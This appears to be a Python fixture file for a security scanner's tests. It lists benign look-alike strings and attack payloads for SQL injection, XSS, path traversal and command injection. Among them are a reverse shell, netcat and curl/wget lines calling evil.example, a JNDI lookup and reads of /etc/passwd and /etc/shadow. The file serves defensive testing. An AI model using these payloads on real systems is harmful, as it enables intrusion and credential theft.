"""Values for the scanner's tests, written for them: ordinary ones that look like attacks, and attacks of each kind."""

# ruff: noqa: RUF001

from __future__ import annotations

HARMLESS = r"""
Rock ’n’ Roll — O’Neil’s “best” or ‘worst’
‘a’ = ‘b’
（セール）＜半額＞ ＯＲ ＝
½ cup, ¼ cup and ¾ cup
<p style="color: red; font-family: 'Open Sans', serif">text</p>
<td style='width:50%'>5</td>
"<name>"
shell;prompt;command;cmd;
file://../crates/parser
Mozilla/5.0 (compatible; bot; amd64 Linux 3.16.0-4-amd64; java 1.7.0_65; Europe/en) http://example.com/bot.html
<base> and <link> are tags
<object object at 0x7f0c>
<set of numbers>
<import token>
"The rest is silence" -- William Shakespeare
Supports Python 3.8 and 3.9; it drops 3.7
(Python 2: unicode; Python 3: str)
either a `list`/`set`/`dict` or a `tuple`
``read`` or ``write``
`type`, if set, is used
| option | `python run.py` | what it does |
if c == "<":
self.write("=")
if not line.startswith(b'+'):
'=': EQUAL,
"Div": "/",
for ext in '~' '%' .bak:
def walk(top=".", onerror=None):
xhr.onerror = callback("error");
if len(b) == 0 or len(b) == 255:
while i < n and s[i] == "x":
f"{a} and {b}"
import sys; from sys.path
from mysql.connector import errors
extract from master.zip
file_loader.load_file(name)
result = benchmark(function)
answer = prompt('Your name: ')
the ``prompt`` function
String.fromCharCode(high >> 10)
<%s> is not <%d>
src="https://example.com/badge.svg"></a>
<a href="#top">Back</a>
<a href="#" class="button">Go</a>
See <a href="#chapter-2">chapter 2</a>, it's long
-----BEGIN CERTIFICATE-----
"#fff" and '#000'
* use "--verbose" for more
dict(a="=", b='-')
print("--", file=out)
cost || 0
a || b || c
$i && $j
test -f a && echo yes
{"op": "=", "value": "1"}
["<", ">", "<=", ">="]
kill time; sleep late
small enough; last = first
O'Brien
Ronan O'Connor and Sinead O'Neill
D'Angelo's "Brown Sugar" (1995)
Drop table lamp; select color
Please select 2 from the list below
select a plan and update your billing address
The union of select committees; or not
Union Square - select your seats
credit union select checking account
Insert coin into slot; delete old photos from phone
Where is my order by 5pm?
I'd like to order by phone or email
group by color, order by price
5 and 6 or 7
rock 'n' roll
Guns N' Roses - Sweet Child O' Mine
Levi's 501 jeans 32" x 34"
5' 11" and 180 lbs
24" x 36" frame -- black
it's 5 o'clock somewhere
the cat's out; the dog's in
can't, won't, and shouldn't
"quoted" and 'single quoted' text
He said "yes" and she said "no"
'tis the season -- or is it?
price < 100 and price > 50
if a < b and b < c then a < c
x = 5; y = 6
E = mc^2
f(x) = sin(x) + cos(x)
sum(a, b) = a + b
2 + 2 = 4 and 3 + 3 = 6?
50% off -- today only!
100% cotton #1 seller
C# developer and F# enthusiast
C++ and Java; Python or Ruby
java;python;perl;ruby
html | css | javascript
name | age | id
Tom & Jerry; Itchy & Scratchy
AT&T and R&D
black & white; sleep & wake
ping pong & table tennis
cut; copy; paste
find | sort | filter
cat; dog; mouse
Cats; find out who is at the top
wait; more time please
how do I sort a list in python?
What does time.sleep(5) do in Python?
use thread.sleep(1000) instead
The function count(x) returns the number of rows
I use max(width, 100) in CSS
How do I center a div in CSS?
let x = document.getElementById("foo");
const total = items.map(i => i.price).reduce((a, b) => a + b, 0);
if (x > 0 && y < 10) { return true; }
for (int i = 0; i < n; i++) sum += a[i];
def main(args): return [x for x in args if x]
print("hello world")
{"name": "O'Brien", "age": 42, "tags": ["a", "b"]}
{"query": {"match": {"title": "select shoes"}}, "size": 10}
[1, 2, 3, {"a": null}]
{"a":1,"b":"it's","c":true}
<a href="https://example.com/page">link text</a>
<b>bold</b> and <i>italic</i>
<p class="intro">Hello, world</p>
<img src="/images/cat.png" alt="a cat">
I <3 you
a <- b
# Heading
## Getting started with `npm install`
* item one
* item two
Use `ls` to list files
Run `pip install foo` and then `python main.py`
[README](../README.md) and [docs](docs/index.md)
see /etc/hosts for details
The file /etc/nginx/nginx.conf is where you set this
edit /var/log/syslog or so
C:\Users\Alice\Documents\report.docx
/home/alice/photos/2020/01/img_0001.jpg
/usr/local/share/doc
https://example.com/a/b/c?x=1&y=2#frag
https://www.google.com/search?q=select+from+where&hl=en
http://localhost:8080/api/v1/users/42/orders?limit=10&offset=20
and/or
either/or...
wait... what?
Loading.....
etc. etc. etc.
1/2 cup sugar, 3/4 cup flour
3-4 people; 5-6 dishes
(555) 123-4567
+1 (555) 123-4567 ext. 89
+49 30 901820
2020-01-01T12:00:00Z
12:30-13:45
eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
550e8400-e29b-41d4-a716-446655440000
d41d8cd98f00b204e9800998ecf8427e
dGhpcyBpcyBhIHRlc3QgdG9rZW4gd2l0aCBzb21lIHRleHQ=
YWxhZGRpbjpvcGVuc2VzYW1l
alice.o'neil@example.com
jürgen.müller@beispiel.de
用户@例子.公司
Être ou ne pas être, telle est la question -- Shakespeare
L'été est là; c'est l'heure d'aller à l'école
Qu'est-ce que c'est? J'ai "oublié"
¿Dónde está la biblioteca? ¡Aquí!
Das ist's! Gib's auf, 's ist vorbei
Dov'è l'uscita? Nell'angolo
Москва и Санкт-Петербург
東京 and 大阪
مرحبا بالعالم
Fish & chips; peas or beans
Order #1234 -- shipped
AND THE WINNER IS...
TRUE or FALSE?
NOT for sale
Between 5 and 10 people like this
I like "The Who" and "The What"
values in (a, b, c)
is it in stock or not?
case 5: when pigs fly then what
declare victory and go home
execute the plan
exec summary
shutdown -- maintenance at 5
Begin the day with coffee; end it with tea
create table decorations
table for two; update my reservation
Alter ego; truncate text
truncate text to 20 chars
limit 10 per customer
limit 5, offset shipping
having fun is not a crime
where 5 = five
like 'this' or like 'that'
sounds like 'fun'
Rock 'or' pop
5'6" or 5'7"
size 10" and 12"
7" x 9" and 5" x 7"
1" + 2" = 3"
a=1&b=2&c=3
utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale
filter[price][gte]=10&filter[price][lte]=20
sort=-created_at,+name
q=cats+and+dogs&sort=id
fields=id,name,email&include=orders.items
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36
curl/8.4.0
text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
en-US,en;q=0.5
gzip, deflate, br
session=abc123; theme=dark; lang=en
_ga=GA1.2.123456789.1234567890; _gid=GA1.2.987654321.1234567890
__utma=1.2.3.4.5.6; __utmz=1.2.3.4.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)
data:image/png;base64,iVBORw0KGgo=
JavaScript: The Good Parts
javascript:the definitive guide
online=1
one=1&once=2
onion soup = good
only = true
=IF(A1>5,"yes","no")
=SUM(A1:A10)
SELECT your size
Select all that apply (choose 1 or 2)
(select one)
(select 2 of 3)
[select]
"select" is a keyword
The keyword union joins two queries
DROP us a line; we'll UPDATE you
John; DROP by anytime
Robert'); he said
"Hello"; "World"
path/to/file.txt
./build.sh
a/b/../c
node_modules/.bin/jest
src/*.py
*.txt
~/Documents
10.0.0.1/24
fe80::1%eth0
::1
v1.2.3-beta.4+build.5
^[a-z]+$
\d{3}-\d{4}
(a|b)*c
SGVsbG8gV29ybGQ=
a || b && c
!important
@user mentioned #hashtag
$100 or $200
$(document).ready(function() { init(); });
${name} is a template
{{ user.name }}
%s and %d
100%25
%20
c%2B%2B
caf%C3%A9
\u00e9t\u00e9
&amp; &lt; &gt; &quot;
&copy; 2024 Foo & Bar
Smith & Sons; id 5
user id; password; email
time; date; place
test; true; false
env | prod | dev
first;last;host
who | what | where
top; bottom; left; right
Smith & Wesson; or was it Winchester?
He's not "the one" and she isn't either
Isn't it 5' or 6'?
Bed frame 60" or 72" -- which one?
Tom's and Jerry's (and Spike's)
I'm sure; you're sure
d'Artagnan, d'Alembert & l'Hôpital
a 2" x 4" and a 1" x 6"
C'est l'amour ou l'argent
Do I need AND or OR in this filter?
Our union elects; the members select
order by 3 pm and get it by 5
Select * if you don't know
delete from my account please
insert into the slot
update me when set
set price = 5 and stock = 7
create a table in Excel
drop by the office; alter the dress
My wife (and I) like 'Cats'
In case of fire, when in doubt, then run
waitfor it
I had to sleep (8 hours)
benchmark (cpu)
max(1, 2) = 2
version() history
100 or 200 (or 300)
true story
null and void
x > y or y > x
5 > 3
3 < 5 and 7 > 2
<3 <3 <3
a<b>c
->
<- back
1 << 4
if x<y then
std::vector<int> v;
Array<string> items
email <alice@example.com>
https://example.com/?next=%2Fhome%3Ftab%3D1
https://example.com/a%20b/c%2Fd?q=r%26d
/search/results?page=2&sort=price
/api/v1/users/42
/a/b/c/d/e/f.html
/static/js/app.min.js?v=1.2.3
//cdn.example.com/lib.js
index.html
C:/Program Files/App
\\server\share\file.txt
.gitignore
..
...
a..b
1..10
.5
5.
see ../docs for more
the path is a/../b
/etc is a directory
cd /etc
ls and cat are commands
I typed ls; nothing happened
cat & dog
sleep; eat; code; repeat
find . or grep
the who; the cure
time | money
echo | narcissus
who? what? when?
date; 5 May
id: 5; name: x
make; model; year
top | sort
kill bill; volume 2
net price; gross price
file | edit | view
cut & paste
more | less
`backticks` in prose
the `cat` command
use `$HOME` or `~`
$5 (or best offer)
cost: $(5)
function() { return 1; }
onclick events are fun
on error resume next
one = 1
onward=true
style = modern; color = red
a "style" and a "class"
data: 5
data:text
javascript
JavaScript: yes or no
vbscript: dead
alert: storm warning (severe)
please confirm (yes/no)
prompt("name") is a function in JS
eval (short for evaluation)
write("hello")
I wrote a script
<tag>
<hello world>
<b>5</b>
<br/>
&nbsp;&nbsp;
&#39;quoted&#39;
&lt;p&gt;
O&#39;Brien
Caf\u00e9
\n\t\r
50%
5% or 10%
%25
100%2525
+1-202-555-0142
a+b+c
1+1
c%2B%2B+or+java
SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8=
eyJmb28iOiJiYXIiLCJiYXoiOlsxLDIsM119
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A
xn--bcher-kva.example
2001:db8::ff00:42:8329
-----BEGIN PUBLIC KEY-----
--flag value
--
#
'
"
''
""
;
|
&
=
(
)
<
>
`
$
%
\
/
*
""".strip().splitlines()

ATTACKS = {
    "sqli": r"""
' or 1=1--
' OR '1'='1
" or ""="
') or ('a'='a
1 or 1=1
1 AND 1=2
-1 union select 1,2,3
-1' UNION ALL SELECT null,null,version()--
0/**/union/**/select/**/1
1;drop table users
'; DROP TABLE students;--
x'; exec master..xp_cmdshell 'dir'--
1'; waitfor delay '0:0:9'--
1 and sleep(9)
1' and (select 1 from (select sleep(3)) t) and '1'='1
1 and extractvalue(1,concat(0x7e,(select version())))
admin'--
admin' #
admin'/*
1 order by 12--
1' order by 9#
1 group by id having 1=1
(select password from users limit 1)
select name, password from users where id=1
'||(select banner from v$version)||'
1' and ascii(substr((select user()),1,1))>64--
1 and case when 1=1 then 1 else 0 end
1,if(1=1,2,3)
' into outfile '/tmp/x'--
1 /*!50000union*/ select 2
1%27%20or%201%3D1--%20
%2531%2527%2520or%25201%253D1--
1+union+select+password+from+users
' or email is not null--
' or username like '%
' and 1=(select count(*) from information_schema.tables)--
'; update users set role='admin' where name='me'--
1; insert into users values (1,2)
'='
' or true--
1' || '1'='1
21 update pages set title=cast(title as varchar(99))
declare @s varchar(99);set @s='x'
1 where 1=1
' xor 1='1
MSBvciAxPTEgdW5pb24gc2VsZWN0IDEsMiwz
１' or １＝１--
""".strip().splitlines(),
    "xss": r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
"><img src=x onerror=prompt(1)>
" onmouseover="alert(1)
' onfocus=alert(1) autofocus='
javascript:alert(1)
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<iframe src=//evil.example></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<div style="width:expression(alert(1))">
<div style="w\69 dth:exp/**/ression(alert(1))">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
';alert(1)//
"-alert(1)-"
</title><script>alert(1)</script>
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
&lt;script&gt;alert(1)&lt;/script&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
＜script＞alert(1)＜/script＞
<details open ontoggle=alert(1)>
<body onload=alert(1)>
data:text/html,<h1>x</h1>
+ADw-script+AD4-alert(1)
<!--#exec cmd="ls"-->
<x onclick=alert(1)>
PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
%c0%bcscript>alert(1)</script>
""".strip().splitlines(),
    "traversal": r"""
../../../etc/passwd
..\..\windows\win.ini
/../../../../etc/shadow
%2e%2e%2f%2e%2e%2fetc%2fpasswd
%252e%252e%252fetc%252fpasswd
..%c0%af..%c0%afetc/passwd
..%u2215..%u2215etc
....//....//etc/passwd
/etc/passwd
c:\boot.ini
file:///etc/hosts
php://filter/convert.base64-encode/resource=index
/0x2e0x2e0x2f0x2e0x2e0x2f
../secret
/var/www/../../etc/group
/proc/self/environ
upload.php%00.jpg
/WEB-INF/web.xml
/static/..;/..;/manager
/download/{file}
/..{name}
""".strip().splitlines(),
    "command": r"""
;id
|id
; cat /etc/hosts
&& whoami
|| ls -la
`id`
$(whoami)
$(curl http://evil.example)
; ping -c 3 127.0.0.1
| nc -e /bin/sh 10.0.0.1 4444
a;wget http://evil.example/x
127.0.0.1; ls
127.0.0.1 && cat /etc/hosts
/bin/cat /etc/hosts
;${IFS}id
cat${IFS}/etc/passwd
() { :; }; /bin/bash -c id
';system('id');'
%3Bid
%7C%7Cwhoami
x%26%26uname+-a
bash -i >& /dev/tcp/10.0.0.1/80 0>&1
& dir c:\
${jndi:ldap://evil.example/a}
"; sleep 10 ;"
""".strip().splitlines(),
}
